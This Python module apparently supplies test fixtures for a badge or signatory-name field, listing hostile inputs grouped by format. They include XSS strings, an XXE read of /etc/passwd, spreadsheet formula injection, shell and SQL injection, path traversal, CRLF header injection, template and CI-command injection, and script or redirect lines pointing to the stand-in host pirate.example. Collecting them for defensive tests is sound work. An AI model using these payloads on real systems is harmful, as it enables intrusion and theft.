"""What a stranger might write into a field, by the language in which it would mean something.

Each text can be drawn on a badge, so that each can be a name. `pirate.example` is where an attack
would lead: no page may ask it for anything, and no record may name it as its address.
"""

from __future__ import annotations

ELSEWHERE = "pirate.example"

HTML = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onload=alert(1) x=`",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></noscript></template></select><b>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<base href=https://pirate.example/>",
    '<meta http-equiv=refresh content="0;url=https://pirate.example/">',
    "<link rel=stylesheet href=https://pirate.example/x.css>",
    "<form action=https://pirate.example/><input name=q>",
    "<a href=javascript:alert(1)>Société</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<plaintext>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://pirate.example/",
    "//pirate.example/x.js",
    "A &lt;b&gt; &#60;i&#62; &amp;amp; &nbsp &copy; B",
    "&quot; onload=&quot;alert(1)",
)
DATA = (
    '","url":"https://pirate.example/","x":"',
    '"}</script><script>alert(1)</script>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '\\"\\\\"\\',
    "__proto__",
    "constructor",
)
XML = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "]]><script>alert(1)</script><![CDATA[",
    '<?xml-stylesheet href="https://pirate.example/x.xsl"?>',
    "</title><image href=https://pirate.example/x.png/><title>",
    "</summary><link href=https://pirate.example/ /><summary>",
)
TABLES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("https://pirate.example","Société")',
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "'=1+1",
    " =1+1",
    "A;=1+1;B",
    "A,=1+1,B",
    "A\t=1+1\tB",
    'A";"=1+1";"B',
    'A","=1+1","B',
    "A; '=1+1",
    "A | B",
    "A || B |",
    "''A",
)
MARKDOWN = (
    "](https://pirate.example) [Société",
    "![Société](https://pirate.example/x.png)",
    "[Société][1] [1]: https://pirate.example",
    '[x](<https://pirate.example> "y")',
    "<https://pirate.example>",
    "www.pirate.example",
    "`A` ``B ``` C",
    "*A* __B__ ~~C~~ ==D== ~E~ ^F^ $G$",
    "# Titre",
    "| A | B |",
    "1. A - B * C + D",
    "@charte #1 GH-1 !2 :tada:",
    "\\[A\\] \\<b\\> \\&lt;",
    "{: onclick=alert(1) }",
    "[[A]] {.b #c}",
    "- [ ] A",
)
BBCODE = (
    "[/img][/url][url=https://pirate.example]Société[/url]",
    "[img]https://pirate.example/x.png[/img]",
)
RECORDS = (
    "}}, url = {https://pirate.example}, x = {{",
    "@misc{x, title={y}}",
    "\\input{/etc/passwd} \\write18{id} \\endinput",
    "100 % $x$ #1 A_B ^C ~D \\\\ {E} }F{",
    "A -- B --- ``C'' ?` !` <<D>>",
    "ER  - ",
    "UR  - https://pirate.example",
    "}}{{Suppression|A",
    "|url=https://pirate.example|titre=",
    "[[Catégorie:A]] [https://pirate.example B] <nowiki>C</nowiki> <ref>D</ref>",
    "'''A''' ~~~~ __NOTOC__ {{subst:B}} {{{1}}} {{!}}",
    "RFC 2822",
    "PMID 12345",
    "ISBN 2-07-036024-8",
    "* A",
    ": A",
    "; A : B",
    "----",
)
DOCUMENTS = (
    '#import "@preview/a:1.0.0": *',
    "#{panic()}",
    '#read("/etc/passwd")',
    "= A *B* _C_ $ D $ `E` <f> @g // H /* I",
    "A~B A--B A---B A... \"C\" 'D'",
)
HOSTS = (
    "/* https://pirate.example/:splat 301!",
    "; } map $uri $x { default https://pirate.example;",
    "redir * https://pirate.example",
    "{$HOME} {env.HOME} ${HOME} $(id) `id`",
)
FORGES = (
    "::error file=A,line=1::B",
    "%0A::stop-commands::A",
    "##[error]A",
    "##[add-mask]Société",
    "##vso[task.setvariable variable=A]B",
)
SLOTS = (
    "[[ annex ]]",
    "[[ name ]]",
    "[[ link withings ]]",
    "{{ 7*7 }}",
    "{% raw %}{{ base }}",
    "{# A #} {{ pieces[0]|safe }}",
    "{commit} {0} {name} {} %s %(a)s",
    "\\1 \\g<1> $1 $& $`",
    '--8<-- "mkdocs.yml"',
    "signataires/_signataire/",
)
LETTERS = (
    "Ζωή Здоровье",
    "İstanbul ſ ß ẞ ﬁ",
    "Ẑ̲̲ accents",
    "A" * 200,
    "www" * 66,
    "société-" * 25,
    " ".join(["Une société dont le nom est bien long et compte deux cents signes"] * 3),
    "“A” ‘B’ « C » – … ‰",
    "'; DROP TABLE signataires; --",
    "$(id) && rm -rf /; `id` | sh",
    "../../../etc/passwd",
    "%2e%2e%2f%00%0d%0aSet-Cookie: a=b",
)

PAYLOADS: tuple[str, ...] = tuple(
    text
    for kind in (
        *(HTML, DATA, XML, TABLES, MARKDOWN, BBCODE, RECORDS, DOCUMENTS),
        *(HOSTS, FORGES, SLOTS, LETTERS),
    )
    for text in kind
)

# What no badge can draw; a group, a description or an action may say it.
UNDRAWABLE = (
    "＝1+1",
    "🩺 soins 👨🏽",
    "שלום 2021 (שלום)",
    "مرحبا 2021",
    "医療 株式会社",
    "\ue000 \ufffc",
    "Z\u0336\u0489\u20e3\u0332 accents",
)
